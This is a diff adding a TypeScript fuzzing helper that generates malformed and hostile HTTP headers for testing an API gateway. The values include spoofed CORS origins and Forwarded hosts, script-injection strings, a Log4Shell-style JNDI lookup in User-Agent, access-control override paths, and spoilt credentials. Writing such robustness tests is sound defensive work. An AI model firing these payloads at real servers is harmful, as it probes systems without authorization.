@@ -1,0 +1,269 @@
+/** Headers with values that make no sense, or more sense than they should. Pure. */
+import { OPEN_KEY } from '../credentials.js';
+import type { HttpRequest } from './http-request.js';
+import type { Random } from '../random.js';
+
+type Header = HttpRequest['headers'][number];
+
+/** Known to the gateway as origins that may read, and others. */
+export const CORS_ORIGINS = ['https://map.example', 'https://gpx.example:8443'];
+
+const ORIGINS = [
+  ...CORS_ORIGINS,
+  'null',
+  '*',
+  'https://evil.example',
+  'https://map.example.evil.example',
+  'https://MAP.example',
+  'http://map.example',
+  'https://map.example:443',
+  'https://map.example/',
+  'https://map.example, https://evil.example',
+  'chrome-extension://abcdefghijklmnop',
+  'moz-extension://00000000-0000-0000-0000-000000000000',
+  'chrome-extension://a b',
+  'safari-web-extension://\xe4',
+  'file://',
+  '',
+];
+
+/** Few of them are good ones, since each makes the gateway render its documents anew. */
+const HOSTS = [
+  '',
+  ' ',
+  'localhost',
+  '127.0.0.1:99999',
+  '[::1]',
+  '[::1',
+  '[zz]',
+  'a b',
+  'a/b',
+  'a@b',
+  'user:pass@host',
+  'host:port',
+  'host:-1',
+  'host:80:80',
+  '..',
+  'a..b',
+  '-',
+  '_',
+  'xn--a',
+  '\xfcber.example',
+  'a'.repeat(253),
+  'a'.repeat(254),
+  'a'.repeat(8000),
+  '<script>',
+  '"><img src=x>',
+  '999.999.999.999',
+  '0x7f.1',
+  'example.com#',
+  'example.com?',
+];
+
+const ETAGS = [
+  '*',
+  '"',
+  '""',
+  'W/',
+  'W/"',
+  'abc',
+  '"a", "b", *',
+  ',,,,',
+  '"'.repeat(8000),
+  '"a",'.repeat(2500),
+  `W/${'"x" '.repeat(2000)}`,
+];
+
+const MEDIA_TYPES = [
+  '',
+  '*',
+  '*/*;q=2',
+  'image/jpeg',
+  'text/xml;q=NaN',
+  'application/xml',
+  'example/unknown',
+  ';;;;',
+  ',,,,',
+  'a/b;'.repeat(2500),
+  'application/xml,'.repeat(600),
+  `${' '.repeat(5000)}x`,
+];
+
+const CODINGS = [
+  'gzip;q=0',
+  'gzip;q=0.000,*;q=0',
+  'identity;q=0',
+  'br, zstd',
+  'gzip;q=-1',
+  '*',
+  '*;q=0',
+  'gzip gzip gzip',
+  'gzip ; q = 0',
+  `gzip${' '.repeat(8000)};q=0`,
+  '* '.repeat(4000),
+  'gzip,'.repeat(2000),
+];
+
+const FORWARDED = [
+  'for=127.0.0.1;host=evil.example;proto=https',
+  'for="[::1]";proto=javascript',
+  'host=',
+  'host="',
+  'host="a;b"',
+  'proto=https;proto=http',
+  ';;;;====',
+  'for=unknown, for=_hidden',
+  'host=a b',
+  'host=<script>',
+  'host=evil.example:99999',
+  '=,'.repeat(4000),
+  ';'.repeat(8000),
+];
+
+const FORWARDED_PARTS = [
+  'https',
+  'javascript',
+  'https,http',
+  'evil.example',
+  'a@b',
+  '/prefix',
+  '//evil.example',
+  '/../..',
+  '/%2e',
+  '/a b',
+  '/"onload=',
+  '127.0.0.1, 10.0.0.1',
+  '::1',
+  '999',
+  '-1',
+  '/a'.repeat(4000),
+  '',
+];
+
+const RANGES = [
+  'bytes=0-0',
+  'bytes=-1',
+  'bytes=9-1',
+  'bytes=0-,0-,0-',
+  'bytes=99999999999999999999-',
+  'lines=1-2',
+  `bytes=${'0-1,'.repeat(2000)}`,
+  '=',
+];
+
+const DATES = ['yesterday', 'Thu, 32 Jan 2099 99:99:99 GMT', '0', '-1', '9'.repeat(100), ''];
+
+const CONNECTIONS = [
+  'keep-alive, keep-alive',
+  'Keep-Alive',
+  'host',
+  'x-api-key',
+  'te, trailers',
+  '',
+  ','.repeat(2000),
+];
+
+const GENERATORS: readonly (readonly [name: string, value: (random: Random) => string])[] = [
+  ['Origin', (random) => random.pick(ORIGINS)],
+  ['Host', (random) => random.pick(HOSTS)],
+  ['If-None-Match', (random) => random.pick(ETAGS)],
+  ['If-Match', (random) => random.pick(ETAGS)],
+  ['If-Range', (random) => random.pick([...ETAGS, ...DATES])],
+  ['If-Modified-Since', (random) => random.pick(DATES)],
+  ['If-Unmodified-Since', (random) => random.pick(DATES)],
+  ['Range', (random) => random.pick(RANGES)],
+  ['Accept', (random) => random.pick(MEDIA_TYPES)],
+  ['Accept-Encoding', (random) => random.pick(CODINGS)],
+  ['Accept-Language', (random) => random.noise(50)],
+  ['Accept-Version', (random) => random.pick(['1.x', '*', 'x'.repeat(500), '>=1 <2'])],
+  ['Forwarded', (random) => random.pick(FORWARDED)],
+  ['X-Forwarded-Host', (random) => random.pick([...FORWARDED_PARTS, ...HOSTS])],
+  ['X-Forwarded-Proto', (random) => random.pick(FORWARDED_PARTS)],
+  ['X-Forwarded-Prefix', (random) => random.pick(FORWARDED_PARTS)],
+  ['X-Forwarded-For', (random) => random.pick(FORWARDED_PARTS)],
+  ['Access-Control-Request-Method', (random) => random.pick(['GET', 'get', 'PUT', '\x80', '', 'a b', '*'])],
+  [
+    'Access-Control-Request-Headers',
+    (random) => random.pick(['*', 'x-api-key', 'authorization,,,', ','.repeat(3000), '\xff'.repeat(100)]),
+  ],
+  ['Access-Control-Request-Private-Network', () => 'true'],
+  ['Connection', (random) => random.pick(CONNECTIONS)],
+  ['Content-Type', (random) => random.pick(MEDIA_TYPES)],
+  ['Content-Encoding', (random) => random.pick(CODINGS)],
+  ['Cookie', (random) => random.pick(['a', '=;=;=', '_strava4_session=stolen', ';'.repeat(5000)])],
+  ['Referer', (random) => random.noise(100)],
+  ['User-Agent', (random) => random.pick(['', '${jndi:ldap://x.example/a}', '\xff'.repeat(100)])],
+  ['X-HTTP-Method-Override', (random) => random.pick(['PUT', 'DELETE', 'CONNECT'])],
+  ['X-Original-URL', () => '/admin/status'],
+  ['X-Rewrite-URL', () => '/metrics'],
+  ['Via', (random) => `1.1 ${random.noise(30)}`],
+  ['Max-Forwards', (random) => random.pick(['0', '-1', 'x'])],
+  ['TE', (random) => random.pick(['trailers', 'deflate;q=0.5', '\xff'])],
+  ['Trailer', (random) => random.pick(['Content-Length', 'X-API-Key', ','])],
+  ['__proto__', (random) => random.noise(10)],
+  ['constructor', (random) => random.noise(10)],
+  ['X-Injected-Not', () => 'a\tb'],
+];
+
+/** One odd header, or some. */
+export function oddHeaders(random: Random): Header[] {
+  return Array.from({ length: 1 + random.int(4) }, () => {
+    const [name, value] = random.pick(GENERATORS);
+    return [random.chance(0.2) ? name.toUpperCase() : name, value(random)] as const;
+  });
+}
+
+/** Credentials that open nothing; a key in them is spoilt. */
+export function badCredentials(random: Random): Header[] {
+  const basic = (text: string) => `Basic ${Buffer.from(text, 'latin1').toString('base64')}`;
+  const authorization = random.pick([
+    () => 'Bearer',
+    () => 'Bearer ',
+    () => `Bearer  ${spoilt(random)} `,
+    () => `Bearer ${spoilt(random)}`,
+    () => `bearer ${spoilt(random)}`,
+    () => `Bearer ${OPEN_KEY} ${OPEN_KEY}`,
+    () => `Bearer "${OPEN_KEY}"`,
+    () => `Bearer ${'x'.repeat(9000)}`,
+    () => `Bearer\t${OPEN_KEY}`,
+    () => OPEN_KEY,
+    () => 'Basic',
+    () => 'Basic !!!!',
+    () => 'Basic ====',
+    () => basic(''),
+    () => basic(':'),
+    () => basic('user'),
+    () => basic(`user:${spoilt(random)}`),
+    () => basic(`${OPEN_KEY}:`),
+    () => basic(`user:${OPEN_KEY}\0`),
+    () => basic(`user:${'\xff'.repeat(100)}`),
+    () => basic(`user:${'x'.repeat(6000)}`),
+    () => `Digest username="x", response="${OPEN_KEY}"`,
+    () => `Negotiate ${random.noise(100)}`,
+    () => random.noise(100),
+    () => '',
+  ])();
+  return [['Authorization', authorization]];
+}
+
+/** A word that is like a key and is none. */
+export function spoilt(random: Random): string {
+  const at = random.int(OPEN_KEY.length);
+  return random.pick([
+    () => OPEN_KEY.slice(0, -1),
+    () => `${OPEN_KEY}x`,
+    () => OPEN_KEY.toUpperCase(),
+    () => `${OPEN_KEY.slice(0, at)}\u007e${OPEN_KEY.slice(at + 1)}`,
+    () => `${OPEN_KEY}%00`,
+    () => `${OPEN_KEY},${OPEN_KEY}`,
+    () => 'undefined',
+    () => '__proto__',
+    () => 'constructor',
+    () => '*',
+    () => 'x',
+    () => 'x'.repeat(128),
+    () => 'x'.repeat(129),
+    () => 'x'.repeat(9000),
+    () => random.text('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-', 128),
+  ])();
+}
